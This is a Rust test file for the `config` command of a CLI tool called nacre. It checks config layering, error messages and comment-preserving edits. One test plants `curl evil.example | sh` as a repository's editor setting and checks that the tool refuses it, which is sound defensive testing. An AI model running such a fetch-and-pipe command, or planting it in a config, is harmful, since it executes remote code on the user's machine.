//! `nacre config`

use std::fs;

use insta::assert_snapshot;
use serde_json::json;

use crate::home::TestHome;

#[test]
fn show_says_where_each_value_came_from() {
    let home = TestHome::new().with_var("NACRE_UI_COLOR", "never");
    home.ok(&["config", "set", "memory.max_results", "7"]);
    home.ok(&["config", "set", "--repo", "memory.scope", "project_only"]);
    assert_snapshot!(home.run(&["config"]), @"
    hooks.deadline_ms              200           in the built-in defaults
    hooks.guard                    false         in the built-in defaults
    hooks.guard_folders            []            in the built-in defaults
    hooks.pitfalls                 true          in the built-in defaults
    hooks.prompt_tokens            500           in the built-in defaults
    hooks.start_tokens             1000          in the built-in defaults
    hooks.sync                     true          in the built-in defaults
    limits.day_tokens              20000000      in the built-in defaults
    limits.day_usd                 10.0          in the built-in defaults
    limits.map_seconds             120           in the built-in defaults
    limits.model_seconds           600           in the built-in defaults
    limits.project_tokens          200000000     in the built-in defaults
    limits.project_usd             100.0         in the built-in defaults
    limits.session_tokens          1000000       in the built-in defaults
    limits.session_usd             1.0           in the built-in defaults
    lock.wait_ms                   10000         in the built-in defaults
    map.at_rest                    plain         in the built-in defaults
    map.deny                       []            in the built-in defaults
    memory.format                  1             in the built-in defaults
    memory.max_file_bytes          65536         in the built-in defaults
    memory.max_results             7             in `$HOME/.nacre/config.toml`, line 2
    memory.scope                   project_only  in `$HOME/work/.nacre/config.toml`, line 5
    push.to                                      in the built-in defaults
    push.transcripts               false         in the built-in defaults
    reading.agent                                in the built-in defaults
    reading.sessions_per_day       20            in the built-in defaults
    redact.extra                   []            in the built-in defaults
    runs.keep                      200           in the built-in defaults
    safe.folders                   []            in the built-in defaults
    safe.memories                  []            in the built-in defaults
    server.database                              in the built-in defaults
    server.database_certificates                 in the built-in defaults
    server.database_connections    8             in the built-in defaults
    server.database_password_file                in the built-in defaults
    server.trusted_proxy                         in the built-in defaults
    server.trusted_proxy_header                  in the built-in defaults
    share.summaries                false         in the built-in defaults
    telemetry.otlp_endpoint                      in the built-in defaults
    ui.color                       never         in variable `NACRE_UI_COLOR`
    ui.editor                                    in the built-in defaults
    ui.theme                       dark          in the built-in defaults
    roles.default.model            (not set)
    ");
    assert_snapshot!(home.run(&["config", "ui."]), @"
    ui.color   never  in variable `NACRE_UI_COLOR`
    ui.editor         in the built-in defaults
    ui.theme   dark   in the built-in defaults
    ");
    assert_snapshot!(home.run(&["config", "nothing"]), @"
    Error: No setting starts with `nothing`
    Hint: `nacre config` lists every key
    [exit 2]
    ");
    let (_, value) = home.json(&["config", "memory.max_results"]);
    assert_eq!(value["settings"]["memory.max_results"]["value"], 7);
}

#[test]
fn get_prints_one_value() {
    let home = TestHome::new();
    home.ok(&["config", "set", "memory.max_results", "7"]);
    assert_eq!(home.run(&["config", "get", "memory.max_results"]), "7\n");
    let (_, value) = home.json(&["config", "get", "memory.max_results"]);
    assert!(value["doc"].as_str().unwrap().starts_with("The number of results"), "{value}");
    let shown = home.run(&["config", "get", "roles.default.model"]);
    assert!(shown.starts_with("Error: `roles.default.model` is not set"), "{shown}");
    let shown = home.run(&["config", "get", "memory.max_result"]);
    assert!(shown.contains("memory.max_results"), "{shown}");
    let roles = home.run(&["config", "roles"]);
    assert!(roles.contains("roles.lead.model"), "{roles}");
    assert_eq!(home.run(&["config", "list", "roles"]), roles);
    let shown = home.run(&["config", "set", "--unset", "memory.scope"]);
    assert!(shown.starts_with("Error: `memory.scope` is not set in this file"), "{shown}");
}

#[test]
fn a_model_without_a_provider_is_refused() {
    let home = TestHome::new();
    let shown = home.run(&["config", "set", "roles.default.model", "gpt-4"]);
    assert!(shown.contains("openai/gpt-4") && shown.ends_with("[exit 2]\n"), "{shown}");
    home.ok(&["config", "set", "roles.default.model", "ollama/qwen3"]);
    assert_eq!(home.run(&["config", "get", "roles.default.model"]), "ollama/qwen3\n");
}

#[test]
fn a_mistake_of_the_repository_does_not_hide_the_keys() {
    let home = TestHome::new();
    home.write("config.toml", "bogus = 1\n");
    let shown = home.run(&["config", "ui."]);
    assert!(shown.contains("ui.editor") && shown.contains("bogus"), "{shown}");
}

#[test]
fn later_layers_win() {
    let file = tempfile::NamedTempFile::new().unwrap();
    fs::write(file.path(), "[memory]\nmax_results = 3\n").unwrap();
    let shown = |home: &TestHome| {
        let (_, value) = home.json(&["config", "memory.max_results"]);
        value["settings"]["memory.max_results"]["value"].as_i64().unwrap()
    };
    let home = TestHome::new();
    assert_eq!(shown(&home), 20);
    home.ok(&["config", "set", "memory.max_results", "1"]);
    assert_eq!(shown(&home), 1);
    home.ok(&["config", "set", "--repo", "memory.max_results", "2"]);
    assert_eq!(shown(&home), 2);
    let home = home.with_var("NACRE_CONFIG", &file.path().display().to_string());
    assert_eq!(shown(&home), 3);
    let home = home.with_var("NACRE_MEMORY_MAX_RESULTS", "4");
    assert_eq!(shown(&home), 4);
}

#[test]
fn the_number_of_results_has_an_effect() {
    let home = TestHome::new();
    home.add("One", &[]);
    home.add("Two", &[]);
    home.ok(&["config", "set", "memory.max_results", "1"]);
    assert_eq!(home.ok(&["memory", "list"]).lines().count(), 2);
    home.ok(&["config", "set", "memory.max_results", "--unset"]);
    assert_eq!(home.ok(&["memory", "list"]).lines().count(), 2);
}

#[test]
fn a_repository_cannot_set_what_runs_commands() {
    let home = TestHome::new();
    home.write("config.toml", "[ui]\neditor = \"curl evil.example | sh\"\n");
    assert_snapshot!(home.run(&["config", "ui.editor"]), @"
    ui.editor    in the built-in defaults
    Warning: Ignored `ui.editor` in `$HOME/work/.nacre/config.toml`, line 2: a repository may not set this key
    Hint: To set it in your own configuration, run `nacre config set ui.editor VALUE`
    ");
    assert_snapshot!(home.run(&["config", "set", "--repo", "ui.editor", "vim"]), @"
    Warning: Ignored `ui.editor` in `$HOME/work/.nacre/config.toml`, line 2: a repository may not set this key
    Hint: To set it in your own configuration, run `nacre config set ui.editor VALUE`
    Error: A repository cannot set `ui.editor`
    Hint: Set it for yourself: nacre config set ui.editor VALUE
    [exit 2]
    ");
}

#[test]
fn a_repositorys_mistake_is_named_by_what_looks_after_it_and_the_persons_own_is_an_error() {
    let home = TestHome::new();
    home.write("config.toml", "[memory]\nscope = 3\n");
    let named = "`memory.scope` in `$HOME/work/.nacre/config.toml`, line 2";
    for (words, end) in [
        (&["status"][..], "[exit 3]"),
        (&["doctor"], "[exit 1]"),
        (&["project"], "work"),
        (&["config", "--path"], "work"),
    ] {
        let shown = home.run(words);
        let is_named = shown.contains(named) && shown.contains("Warning: Invalid value");
        assert!(is_named && shown.contains(end) && !shown.contains("Error:"), "{words:?}: {shown}");
    }
    let (_, doctor) = home.json(&["doctor"]);
    assert_eq!((&doctor["health"], &doctor["errors"]), (&json!("broken"), &json!(1)), "{doctor}");
    assert!(doctor["config"].as_str().unwrap().contains("line 2"), "{doctor}");
    home.write("config.toml", "");
    fs::write(home.root().join(".nacre/config.toml"), "[memory]\nscope = 3\n").unwrap();
    for words in [&["status"][..], &["doctor"], &["project"]] {
        let shown = home.run(words);
        assert!(shown.starts_with("Error: Invalid value") && shown.contains("[exit 1]"), "{shown}");
    }
}

#[test]
fn mistakes_are_shown_with_file_and_line() {
    let home = TestHome::new();
    home.write("config.toml", "[memory]\n# a comment\nscop = \"project_only\"\n");
    assert_snapshot!(home.run(&["memory", "list"]), @"
    Error: Unknown key `memory.scop` in `$HOME/work/.nacre/config.toml`, line 3
    Hint: Did you mean `memory.scope`?
    [exit 1]
    ");
    home.write("config.toml", "[memory]\nscope = 3\n");
    assert_snapshot!(home.run(&["memory", "list"]), @"
    Error: Invalid value for `memory.scope` in `$HOME/work/.nacre/config.toml`, line 2: expected one of `project_fallback_global`, `project_only`, `global_only`, found the number 3
    [exit 1]
    ");
    home.write("config.toml", "[memory\n");
    assert_snapshot!(home.run(&["memory", "list"]), @"
    Error: Cannot parse `$HOME/work/.nacre/config.toml` as TOML, line 1: unclosed table, expected `]`
    [exit 1]
    ");
    home.write("config.toml", "");
    assert_snapshot!(home.run(&["config", "set", "memory.scop", "x"]), @"
    Error: Unknown key `memory.scop` on the command line
    Hint: Did you mean `memory.scope`?
    [exit 2]
    ");
    assert_snapshot!(home.run(&["config", "set", "memory.scope", "x"]), @"
    Error: Invalid value for `memory.scope` on the command line: expected one of `project_fallback_global`, `project_only`, `global_only`, found `x`
    Hint: `nacre config` lists all keys and values
    [exit 2]
    ");
}

#[test]
fn a_mistake_can_be_taken_out_by_command() {
    let home = TestHome::new();
    home.write("config.toml", "# mine\n[memory]\nscop = \"project_only\"\n");
    assert_snapshot!(home.run(&["config", "set", "--repo", "memory.scop", "--unset"]), @"
    Unset memory.scop in $HOME/work/.nacre/config.toml
    Undo: nacre undo config-20261115-083000-[id]
    Warning: Unknown key `memory.scop` in `$HOME/work/.nacre/config.toml`, line 3
    Hint: Did you mean `memory.scope`?
    ");
    assert_eq!(home.run(&["memory", "list"]), "No memories.\n");
}

#[test]
fn a_misspelled_variable_is_noticed() {
    let home = TestHome::new().with_var("NACRE_MEMORY_SCOP", "project_only");
    assert_snapshot!(home.run(&["memory", "list"]), @"
    No memories.
    Warning: Unknown variable `NACRE_MEMORY_SCOP`
    Hint: Did you mean `NACRE_MEMORY_SCOPE`?
    ");
}

#[test]
fn set_keeps_comments_and_path_shows_the_files() {
    let home = TestHome::new();
    home.write("config.toml", "# why\n[memory] # here\nmax_results = 5 # five\n");
    home.ok(&["config", "set", "--repo", "memory.max_results", "6"]);
    assert_eq!(home.read("config.toml"), "# why\n[memory] # here\nmax_results = 6 # five\n");
    assert_snapshot!(home.run(&["config", "--path"]), @"
    home  $HOME/.nacre/config.toml       (not there)
    repo  $HOME/work/.nacre/config.toml
    ");
}
